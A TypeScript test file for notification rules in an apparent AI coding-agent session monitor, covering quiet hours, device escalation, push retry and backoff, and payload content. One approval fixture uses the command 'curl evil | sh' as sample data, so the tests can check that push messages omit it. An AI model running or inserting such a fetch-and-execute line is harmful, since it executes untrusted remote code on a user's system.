import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Approval } from '../../../shared/contract/approvals.ts';
import type { Session } from '../../../shared/contract/sessions.ts';
import {
  backOff,
  closePayload,
  type Ear,
  inOrder,
  minutesAt,
  type Need,
  needOf,
  next,
  payloadOf,
  quietUntil,
  SETTLE_MS,
  type Told,
  verdict,
} from './rules.ts';

const MINUTE = 60_000;
const NOON = Date.UTC(2026, 5, 1, 12);
const ear = (id: string, change: Partial<Ear> = {}): Ear => ({
  id,
  quiet: null,
  usedAt: 0,
  createdAt: 0,
  last: null,
  ...change,
});
const told = (device: string, at: number, change: Partial<Told> = {}): Told => ({
  device,
  at,
  status: 'sent',
  openedAt: null,
  ...change,
});
const session = (change: Partial<Session> = {}): Session =>
  ({
    id: 's1',
    name: 'api',
    agent: 'claude',
    state: 'working',
    needsYou: false,
    stalled: false,
    archived: false,
    since: 5,
    ...change,
  }) as Session;
const approval = (change: Partial<Approval> = {}): Approval =>
  ({
    id: 'a1',
    kind: 'approval',
    title: 'Bash command',
    tool: 'Bash',
    subject: 'curl evil | sh',
    digest: 'D',
    createdAt: 9,
    choices: [
      { n: 1, label: 'Yes', selected: true, means: 'allow' },
      { n: 2, label: 'No', selected: false, means: 'deny' },
    ],
    ...change,
  }) as Approval;

describe('what a person is wanted for', () => {
  it('is the dialog first, then the state, then a stall, then the end of a long turn', () => {
    const all = session({ state: 'approval', needsYou: true, stalled: true });
    expect(needOf(all, approval(), 1)).toMatchObject({ kind: 'approval', id: 's1:approval:a1', at: 9 });
    expect(needOf(all, null, 1)).toMatchObject({ kind: 'approval', id: 's1:approval:5', approval: null });
    expect(needOf(session({ stalled: true }), null, null)).toMatchObject({ kind: 'stalled' });
    expect(needOf(session({ state: 'done' }), null, 7)).toMatchObject({ kind: 'done', id: 's1:done:7', at: 7 });
    expect(needOf(session(), null, null)).toBeNull();
  });
  it.each(['login', 'trust', 'question', 'ratelimit', 'error'] as const)('%s', (state) => {
    expect(needOf(session({ state, needsYou: true }), null, null)?.kind).toBe(state);
    expect(needOf(session({ state, needsYou: false }), null, null)).toBeNull();
  });
  it('is nothing in a session that ended, is put away or cannot be reached', () => {
    expect(needOf(session({ state: 'exited' }), approval(), 1)).toBeNull();
    expect(needOf(session({ state: 'unreachable' }), approval(), 1)).toBeNull();
    expect(needOf(session({ archived: true, state: 'error', needsYou: true }), null, 1)).toBeNull();
  });
});

describe('quiet hours', () => {
  it('go over midnight, in the zone they were meant in', () => {
    const quiet = { from: '22:00', to: '07:30', zone: 'Asia/Tokyo' };
    // Noon in UTC is 21:00 in Tokyo.
    expect(minutesAt(NOON, 'Asia/Tokyo')).toBe(21 * 60);
    expect(quietUntil(quiet, NOON)).toBeNull();
    expect(quietUntil(quiet, NOON + 60 * MINUTE)).toBe(NOON + (60 + 570) * MINUTE);
    expect(quietUntil(quiet, NOON + 90 * MINUTE + 17_000)).toBe(NOON + (60 + 570) * MINUTE);
    expect(quietUntil(quiet, NOON + (60 + 570) * MINUTE)).toBeNull();
  });
  it('without a known zone are none, the same time twice is always', () => {
    expect(quietUntil({ from: '00:00', to: '23:59', zone: 'Mars/Base' }, NOON)).toBeNull();
    expect(quietUntil({ from: '12:00', to: '12:00', zone: 'UTC' }, NOON)).toBe(NOON + 1440 * MINUTE);
    expect(quietUntil(null, NOON)).toBeNull();
  });
  it('always end later than now, within a day, and are over then', () => {
    const time = fc
      .tuple(fc.integer({ min: 0, max: 23 }), fc.integer({ min: 0, max: 59 }))
      .map((parts) => parts.map((part) => String(part).padStart(2, '0')).join(':'));
    fc.assert(
      fc.property(time, time, fc.integer({ min: 0, max: 3 * 1440 * MINUTE }), (from, to, offset) => {
        const now = NOON + offset;
        const end = quietUntil({ from, to, zone: 'UTC' }, now);
        if (end === null) return;
        expect(end).toBeGreaterThan(now);
        expect(end - now).toBeLessThanOrEqual(1440 * MINUTE);
        if (from !== to) expect(quietUntil({ from, to, zone: 'UTC' }, end)).toBeNull();
      }),
    );
  });
});

describe('who is told when', () => {
  const base = { needAt: NOON, now: NOON + SETTLE_MS, devices: [ear('a'), ear('b')], told: [], escalateMs: 5 * MINUTE };
  it('waits a moment, then tells the first, then after the pause the second, then nobody', () => {
    expect(next({ ...base, now: NOON })).toEqual({ tell: [], again: NOON + SETTLE_MS });
    expect(next(base)).toEqual({ tell: ['a'], again: null });
    const one = [told('a', NOON + SETTLE_MS)];
    expect(next({ ...base, told: one })).toEqual({ tell: [], again: NOON + SETTLE_MS + 5 * MINUTE });
    expect(next({ ...base, told: one, now: NOON + SETTLE_MS + 5 * MINUTE })).toEqual({ tell: ['b'], again: null });
    expect(next({ ...base, told: [...one, told('b', NOON + 6 * MINUTE)], now: NOON + 99 * MINUTE })).toEqual({
      tell: [],
      again: null,
    });
  });
  it('stops when somebody opened it, wherever', () => {
    const opened = [told('a', NOON, { openedAt: NOON + 1 })];
    expect(next({ ...base, told: opened, now: NOON + 99 * MINUTE })).toEqual({ tell: [], again: null });
  });
  it('goes on at once when the first could not be told', () => {
    expect(next({ ...base, told: [told('a', NOON, { status: 'failed' })] }).tell).toEqual(['b']);
  });
  it('tells all at once with 0', () => {
    expect(next({ ...base, escalateMs: 0 }).tell).toEqual(['a', 'b']);
  });
  it('passes by a quiet device, and tells it at the end of its hours if nobody reacted', () => {
    const quiet = { from: '11:00', to: '13:00', zone: 'UTC' };
    const devices = [ear('a', { quiet }), ear('b')];
    expect(next({ ...base, devices }).tell).toEqual(['b']);
    const one = [told('b', NOON + SETTLE_MS)];
    expect(next({ ...base, devices, told: one })).toEqual({ tell: [], again: NOON + 60 * MINUTE });
    expect(next({ ...base, devices, told: one, now: NOON + 60 * MINUTE }).tell).toEqual(['a']);
  });
  it('never tells a device twice, and none that is quiet, whatever happened', () => {
    const ids = ['a', 'b', 'c', 'd'];
    fc.assert(
      fc.property(
        fc.subarray(ids),
        fc.subarray(ids),
        fc.integer({ min: 0, max: 30 * MINUTE }),
        fc.constantFrom(0, MINUTE, 5 * MINUTE),
        (known, asleep, passed, escalateMs) => {
          const quiet = { from: '11:00', to: '13:00', zone: 'UTC' };
          const { tell, again } = next({
            needAt: NOON,
            now: NOON + passed,
            devices: ids.map((id) => ear(id, asleep.includes(id) ? { quiet } : {})),
            told: known.map((id, i) => told(id, NOON + i)),
            escalateMs,
          });
          for (const id of tell) expect([...known, ...asleep]).not.toContain(id);
          if (again !== null) expect(again).toBeGreaterThan(NOON + passed);
          // Nobody is forgotten: somebody is told now, or it is known when to look again, or all were.
          if (tell.length === 0 && again === null) expect(new Set(known).size).toBe(ids.length);
        },
      ),
    );
  });
  it('begins with the device used last, unless it did not show what it was sent', () => {
    const last = { status: 'sent', shownAt: null } as const;
    const order = inOrder([ear('old', { usedAt: 1 }), ear('mute', { usedAt: 9, last }), ear('new', { usedAt: 5 })]);
    expect(order.map(({ id }) => id)).toEqual(['new', 'old', 'mute']);
  });
});

it('knows what push services mean, and gives up in the end', () => {
  expect([201, 200, 404, 410, 429, 500, 503, 400, 403, 413, 0, 301].map(verdict)).toEqual(
    'sent sent gone gone again again again failed failed failed failed failed'.split(' '),
  );
  expect(verdict(null)).toBe('again');
  expect([1, 2, 3, 4, 5, 6].map((tries) => backOff(tries, null))).toEqual([2000, 8000, 30_000, 120_000, 300_000, null]);
  expect(backOff(1, 45_000)).toBe(45_000);
  expect(backOff(3, 1)).toBe(30_000);
});

describe('what is said', () => {
  const need = (a: Approval): Need => {
    const found = needOf(session({ state: a.kind, needsYou: true }), a, null);
    if (!found) throw new Error('a dialog is a need');
    return found;
  };
  it('leaves the command out unless it is wanted, and fits into what push services take', () => {
    const quiet = payloadOf('m', need(approval()), { detail: false, mayAnswer: true });
    expect(JSON.stringify(quiet)).not.toMatch(/evil|Bash/);
    expect(quiet).toMatchObject({
      session: 'api',
      agent: 'claude',
      path: '/s/s1',
      approval: { id: 'a1', digest: 'D' },
    });
    const long = approval({ subject: `echo \u001b[31m${'😀\n'.repeat(5000)}` });
    const loud = payloadOf('m', need(long), { detail: true, mayAnswer: true });
    expect(loud.body).toMatch(/^Bash: echo /);
    expect(loud.body).not.toMatch(/\p{Cc}/u);
    expect(Buffer.byteLength(JSON.stringify(loud))).toBeLessThan(3800);
    expect(JSON.stringify(closePayload('s1', 'api', 'approval', 1))).not.toMatch(/evil|Bash/);
  });
  it('offers yes and no only for a permission dialog that has them, to those who may answer', () => {
    const actions = (a: Approval, mayAnswer = true) =>
      payloadOf('m', need(a), { detail: false, mayAnswer }).approval?.actions;
    expect(actions(approval())).toEqual(['allow', 'deny']);
    expect(actions(approval(), false)).toEqual([]);
    expect(actions(approval({ kind: 'question' }))).toEqual([]);
    expect(actions(approval({ kind: 'trust' }))).toEqual([]);
    expect(actions(approval({ choices: approval().choices.slice(1) }))).toEqual(['deny']);
  });
});
